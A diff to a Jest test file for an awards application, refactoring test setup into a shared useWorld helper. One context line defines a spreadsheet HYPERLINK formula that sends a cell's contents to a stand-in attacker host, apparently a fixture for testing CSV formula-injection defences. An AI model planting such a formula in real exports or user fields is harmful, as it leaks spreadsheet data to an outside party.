@@ -1,13 +1,12 @@
-import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { beforeAll, describe, expect, it } from '@jest/globals';
 import { parse } from 'csv-parse/sync';
 import { sql } from 'kysely';
-import { startTestApp, type TestApp } from '../helpers/app.ts';
 import { event, ok, panelOfThree, review, SCHOOL_CODES, uploadEvidence } from '../helpers/applications.ts';
 import type { Client } from '../helpers/client.ts';
-import { type Actor, createUserWithToken, createWorld, type World } from '../helpers/world.ts';
+import { useWorld } from '../helpers/setup.ts';
+import { type Actor, createUserWithToken } from '../helpers/world.ts';
 
-let t: TestApp;
-let w: World;
+const { t, w } = useWorld({ PUBLIC_URL: 'https://awards.example.org' });
 const DAY = 86_400_000;
 
 /** Org with an applicant member, pledge signed. */
@@ -79,9 +78,6 @@ let pledgedOnly: string;
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 
 beforeAll(async () => {
-  t = await startTestApp({ PUBLIC_URL: 'https://awards.example.org' });
-  w = await createWorld(t.app, t.database.db);
-
   // Hillfields (area A) goes through the whole cycle to an award.
   const hillfields = { id: w.orgA, applicant: w.applicantA };
   ok(
@@ -122,7 +118,6 @@ beforeAll(async () => {
   );
   await submitted({ id: w.orgB, applicant: w.applicantB });
 });
-afterAll(() => t.close());
 
 describe('the area dashboard', () => {
   it('shows the lead what needs attention in their area, and nothing of other areas', async () => {
